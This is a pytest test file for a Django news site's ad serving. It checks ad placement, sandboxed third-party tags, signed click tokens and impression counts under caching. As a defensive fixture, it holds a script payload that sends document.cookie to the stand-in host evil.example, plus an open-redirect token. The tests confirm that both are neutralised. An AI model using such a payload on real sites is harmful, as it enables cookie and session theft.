"""Ads on the public pages and the two ad endpoints: safe third-party code, signed clicks,
honest counts — also when pages come from a cache."""

import html
import re
from urllib.parse import urlsplit

import pytest
from django.core.files.base import ContentFile
from django.db import connection
from django.test.utils import CaptureQueriesContext

from ads import counters
from ads.models import Creative, DailyStat, Slot
from ads.serving import new_plan_version
from ads.views import preview_token
from articles.models import Block
from tests.factories import SectionFactory, book, image_bytes, live_article

pytestmark = pytest.mark.django_db

EVIL_TAG = '<div id="x">ad</div><script>fetch("https://evil.example/?" + document.cookie)</script>'


@pytest.fixture
def article():
    """A live Ukrainian-and-English article with eight paragraphs and a quote."""
    story = live_article(["uk", "en"], title_uk="Новина", title_en="News")
    kinds = ["source", "paragraph", "quote", "paragraph", "paragraph", "paragraph", "paragraph"]
    for code in ["uk", "en"]:
        for position, kind in enumerate([*kinds, "paragraph", "paragraph"]):
            Block.objects.create(
                article=story, language=code, kind=kind, text="<p>Текст.</p>", position=position
            )
    return story


def frames(page):
    """{slot code: frame src} of the ad slots in a page, in page order."""
    return {
        code: html.unescape(src)
        for code, src in re.findall(
            r'data-slot="([^"]+)"[^>]*>\s*<p class="ad-label">[^<]*</p>\s*'
            r'<iframe class="ad-frame" src="([^"]+)"',
            page,
        )
    }


def test_ads_show_where_the_rule_puts_them(client, article):
    """Body ads go after block 4 (not next to the quote) and 6, then one after the tags, in
    the page's language, each in a sandboxed frame of its slot's reserved size."""
    book("article_body_1", "article_body_2", "article_after_tags")
    page = client.get(article.get_absolute_url("uk")).content.decode()
    assert list(frames(page)) == ["article_body_1", "article_body_2", "article_after_tags"]
    body = page[page.index('class="article-body"') : page.index('class="support-cta"')]
    before_first_ad = body[: body.index('data-slot="article_body_1"')]
    assert before_first_ad.count('class="block ') == 4
    before_second_ad = body[: body.index('data-slot="article_body_2"')]
    assert before_second_ad.count('class="block ') == 6
    assert '<p class="ad-label">Реклама</p>' in page
    # The reserved size is in the page's one hashed <style> (the policy refuses style="…").
    assert (
        ".ad[data-slot='article_body_1']{--ad-w:300px;--ad-h:250px;--ad-ww:336px;--ad-hw:280px}"
        in page
    )
    sandboxes = re.findall(r'<iframe class="ad-frame"[^>]*sandbox="([^"]+)"', page)
    assert sandboxes and all("allow-same-origin" not in s for s in sandboxes)
    english = client.get(article.get_absolute_url("en")).content.decode()
    assert '<p class="ad-label">Advertisement</p>' in english


def test_the_article_can_switch_ads_off_per_language(client, article):
    """ "No ads in: uk" empties the Ukrainian page of ads and leaves the English one as is."""
    book("article_body_1", "sidebar_top", "header")
    article.ads_off_in = ["uk"]
    article.save()
    assert "data-slot" not in client.get(article.get_absolute_url("uk")).content.decode()
    assert len(frames(client.get(article.get_absolute_url("en")).content.decode())) == 3


def test_news_lists_get_an_ad_every_n_items(client):
    """All news with 14 items: a feed ad after the 6th and 12th, as list items."""
    for _ in range(14):
        live_article(["uk"])
    book("feed_inline")
    page = client.get("/news/").content.decode()
    items = re.findall(r'<li class="(news-item|ad ad-feed)', page)
    ads = [index for index, kind in enumerate(items) if kind == "ad ad-feed"]
    assert ads == [6, 13]


def test_section_pages_and_articles_get_their_sections_ads(client, article):
    """A creative for one section shows on its articles and its page, not elsewhere."""
    other = SectionFactory()
    book("sidebar_top", sections=[article.section])
    assert "sidebar_top" in frames(client.get(article.get_absolute_url("uk")).content.decode())
    section_page = client.get(article.section.get_absolute_url()).content.decode()
    assert frames(section_page)["sidebar_top"].endswith(f"s={article.section_id}")
    assert "sidebar_top" not in frames(client.get(other.get_absolute_url()).content.decode())
    assert "sidebar_top" not in frames(client.get("/").content.decode())


def test_a_third_party_tag_lives_only_inside_a_sandboxed_srcdoc_frame(client, article):
    """The page holds no trace of the tag; the frame's document holds it only escaped, in the
    srcdoc of a frame sandboxed without allow-same-origin, and is itself sandboxed by CSP."""
    book("article_body_1", kind="html", html=EVIL_TAG, image=None, alt_text="", link_url="")
    page = client.get(article.get_absolute_url("uk")).content.decode()
    assert "evil.example" not in page and "document.cookie" not in page
    assert page.count("<script") == page.count('<script type="application/ld+json">')

    response = client.get(frames(page)["article_body_1"])
    assert response.status_code == 200
    frame = response.content.decode()
    assert "<script" not in frame  # only as &lt;script&gt; inside srcdoc
    srcdoc = re.search(r'<iframe [^>]*sandbox="([^"]+)" srcdoc="([^"]*)"', frame)
    assert srcdoc and "allow-same-origin" not in srcdoc.group(1)
    assert html.unescape(srcdoc.group(2)) == EVIL_TAG
    assert response["Content-Security-Policy"] == (
        "sandbox allow-scripts allow-popups allow-popups-to-escape-sandbox; frame-ancestors 'self'"
    )
    assert "no-store" in response["Cache-Control"]
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert "Set-Cookie" not in response and not response.cookies


def test_an_image_creative_links_through_the_signed_click_address(client):
    """The frame shows the image with its alt text, linking with rel="sponsored noopener"."""
    creative = book("sidebar_top", alt_text="Хліб щоранку")
    frame = client.get("/ads/slot/sidebar_top/?l=uk").content.decode()
    link = re.search(
        r'<a href="([^"]+)" target="_blank" rel="sponsored noopener"><picture><img ', frame
    )
    assert link and link.group(1) == creative.get_absolute_url()
    assert link.group(1).startswith("/ads/click/")
    assert 'alt="Хліб щоранку"' in frame and 'width="300" height="250"' in frame


def test_a_valid_click_redirects_and_counts(client):
    """A signed click address answers 302 to the creative's link and counts one click."""
    creative = book("sidebar_top")
    response = client.get(creative.get_absolute_url())
    assert response.status_code == 302
    assert response["Location"] == creative.link_url
    counters.flush()
    assert DailyStat.objects.get(creative=creative).clicks == 1


@pytest.mark.parametrize(
    "mangle",
    [
        lambda token: token[:-1] + ("A" if token[-1] != "A" else "B"),  # signature changed
        lambda token: "9" + token,  # another creative's id, old signature
        lambda token: "https:evil.example",
        lambda token: preview_token(1, "sidebar_top"),  # signed, but for another purpose
    ],
)
def test_a_tampered_click_token_is_a_404_and_counts_nothing(client, mangle):
    """No redirect anywhere for an address we did not sign; nothing is counted."""
    creative = book("sidebar_top")
    url = f"/ads/click/{mangle(creative.click_token())}/"
    response = client.get(url)
    assert response.status_code == 404
    counters.flush()
    assert not DailyStat.objects.exists()


def test_a_click_for_a_deleted_creative_is_a_404(client):
    """A signed address of a creative that is gone leads nowhere."""
    creative = book("sidebar_top")
    url = creative.get_absolute_url()
    Creative.objects.filter(pk=creative.pk).delete()
    assert client.get(url).status_code == 404


def test_a_slot_switched_off_since_the_page_was_cached_gives_a_blank_frame(client):
    """A frame of a slot that is gone is blank (200, frameable), not an error box in the
    reserved space; a made-up language is a 404."""
    book("sidebar_top")
    Slot.objects.filter(code="sidebar_top").update(is_active=False)
    new_plan_version()
    response = client.get("/ads/slot/sidebar_top/?l=uk")
    assert response.status_code == 200 and response["X-Frame-Options"] == "SAMEORIGIN"
    assert "<a " not in response.content.decode()
    assert client.get("/ads/slot/nope/?l=uk").status_code == 200
    assert client.get("/ads/slot/sidebar_top/?l=xx").status_code == 404
    counters.flush()
    assert not DailyStat.objects.exists()


def test_only_a_real_view_is_an_impression(client):
    """HEAD requests and speculative prefetches get the frame but count nothing."""
    book("sidebar_top")
    assert client.head("/ads/slot/sidebar_top/?l=uk").status_code == 200
    client.get("/ads/slot/sidebar_top/?l=uk", headers={"Sec-Purpose": "prefetch"})
    client.get("/ads/slot/sidebar_top/?l=uk", headers={"Purpose": "prefetch"})
    counters.flush()
    assert not DailyStat.objects.exists()
    client.get("/ads/slot/sidebar_top/?l=uk")
    counters.flush()
    assert DailyStat.objects.get().impressions == 1


def test_the_ad_endpoints_set_no_cookie_even_for_a_logged_in_editor(admin_client):
    """No Set-Cookie and no Vary: Cookie from the frame and the click, logged in or not."""
    creative = book("sidebar_top")
    for response in (
        admin_client.get("/ads/slot/sidebar_top/?l=uk"),
        admin_client.get(creative.get_absolute_url()),
    ):
        assert not response.cookies and "Set-Cookie" not in response
        assert "Cookie" not in response.get("Vary", "")


def test_a_wide_screen_image_is_chosen_by_the_frames_own_size(client):
    """With a second image, the frame offers it for the slot's wide size; without, one image."""
    book("header", image_wide=ContentFile(image_bytes("PNG", size=(728, 90)), name="w.png"))
    frame = client.get("/ads/slot/header/?l=uk").content.decode()
    assert re.search(r'<source media="\(min-width: 728px\)" srcset="[^"]+\.png">', frame)
    Creative.objects.update(image_wide="")
    new_plan_version()
    assert "<source" not in client.get("/ads/slot/header/?l=uk").content.decode()


def test_several_feed_slots_share_a_list_without_doubling_up(client):
    """A second feed slot every 4 items fills its places, never one the first slot took."""
    Slot.objects.create(
        code="feed_second",
        name="2",
        placement="feed",
        every_items=4,
        width=320,
        height=100,
        width_wide=320,
        height_wide=100,
    )
    for _ in range(13):
        live_article(["uk"])
    book("feed_inline", "feed_second")
    page = client.get("/news/").content.decode()
    slots = re.findall(r'<li class="(?:news-item|ad ad-feed)[^"]*"(?: data-slot="([^"]+)")?', page)
    ads = {index: code for index, code in enumerate(slots) if code}
    # Items 4, 6, 8 and 12 are followed by an ad: 4 and 8 by the second slot, 6 and 12 by the
    # first (which comes first in the slot order), never two at one place.
    assert list(ads.values()) == ["feed_second", "feed_inline", "feed_second", "feed_inline"]


def test_an_empty_slot_frame_is_empty_and_counts_nothing(client):
    """Served after its booking ended (a cached page), the frame is blank; no impression."""
    response = client.get("/ads/slot/sidebar_top/?l=uk")
    assert response.status_code == 200
    assert "<a " not in response.content.decode() and "<iframe" not in response.content.decode()
    counters.flush()
    assert not DailyStat.objects.exists()


def test_counting_and_rotation_keep_working_when_pages_are_cached(client, settings, article):
    """The second view of a page comes from the page cache without a query, yet each view's
    frames are served (and counted) one by one, and rotate."""
    # Django's whole-page cache stands in for the CDN or nginx cache of production.
    settings.MIDDLEWARE = [
        "django.middleware.cache.UpdateCacheMiddleware",
        *settings.MIDDLEWARE,
        "django.middleware.cache.FetchFromCacheMiddleware",
    ]
    settings.CACHE_MIDDLEWARE_SECONDS = 300
    first, second = book("sidebar_top", weight=1), book("sidebar_top", weight=1)
    url = article.get_absolute_url("uk")
    page = client.get(url).content.decode()
    with CaptureQueriesContext(connection) as queries:
        cached = client.get(url).content.decode()
    assert cached == page and len(queries) == 0
    src = frames(page)["sidebar_top"]
    shown = set()
    for _ in range(40):
        frame = client.get(src).content.decode()
        shown.add(first.pk if first.get_absolute_url() in frame else second.pk)
    counters.flush()
    totals = {row.creative_id: row.impressions for row in DailyStat.objects.all()}
    assert sum(totals.values()) == 40
    assert shown == {first.pk, second.pk}  # both ran: chosen per view, not per cached page
    assert urlsplit(src).path == "/ads/slot/sidebar_top/"


def test_serving_an_ad_writes_no_row_per_view(client, settings, django_assert_num_queries):
    """Counted in the database: one UPDATE per view after the day's first INSERT; counted in
    Redis: no query at all, and a flush writes the day's sum."""
    creative = book("sidebar_top")
    settings.ADS_COUNTS_REDIS_URL = ""
    client.get("/ads/slot/sidebar_top/?l=uk")  # builds the plan, creates the day's row
    with CaptureQueriesContext(connection) as queries:
        for _ in range(5):
            client.get("/ads/slot/sidebar_top/?l=uk")
    statements = [q["sql"].split()[0].upper() for q in queries.captured_queries]
    assert statements == ["UPDATE"] * 5
    assert DailyStat.objects.get(creative=creative).impressions == 6


def test_serving_with_redis_makes_no_query(client, settings, redis_counts):
    """With Redis the impressions cost no query; the flush adds them to the day's row."""
    creative = book("sidebar_top")
    client.get("/ads/slot/sidebar_top/?l=uk")
    with CaptureQueriesContext(connection) as queries:
        for _ in range(5):
            client.get("/ads/slot/sidebar_top/?l=uk")
    assert len(queries) == 0
    assert counters.pending() == {(creative.pk, "impressions"): 6}
    counters.flush()
    assert DailyStat.objects.get(creative=creative).impressions == 6
    assert counters.pending() == {}


def test_the_article_page_costs_no_extra_query_for_ads(client, article, steady_minute):
    """With slots booked, the article page makes as many queries as with none (warm plan)."""
    url = article.get_absolute_url("uk")
    client.get(url)
    with CaptureQueriesContext(connection) as without_ads:
        client.get(url)
    book("article_body_1", "article_body_2", "sidebar_top", "header", "footer")
    client.get(url)
    with CaptureQueriesContext(connection) as with_ads:
        page = client.get(url).content.decode()
    assert len(frames(page)) == 5
    assert len(with_ads) == len(without_ads)


def test_editors_previewing_a_draft_see_no_ads_and_count_none(admin_client, article):
    """The article preview of the admin has no ad frames."""
    book("article_body_1", "sidebar_top")
    page = admin_client.get(f"/admin/articles/article/{article.pk}/preview/uk/").content.decode()
    assert "Новина" in page and "data-slot" not in page


def test_a_counter_outage_never_costs_the_reader_the_ad_or_the_click(client, settings):
    """With the counts' Redis unreachable, the frame still serves and the click still leads
    to the advertiser; only the counts are lost (and logged)."""
    creative = book("sidebar_top")
    settings.ADS_COUNTS_REDIS_URL = "redis://127.0.0.1:1/0"  # nothing listens on port 1
    frame = client.get("/ads/slot/sidebar_top/?l=uk")
    assert frame.status_code == 200 and creative.get_absolute_url() in frame.content.decode()
    click = client.get(creative.get_absolute_url())
    assert click.status_code == 302 and click["Location"] == creative.link_url
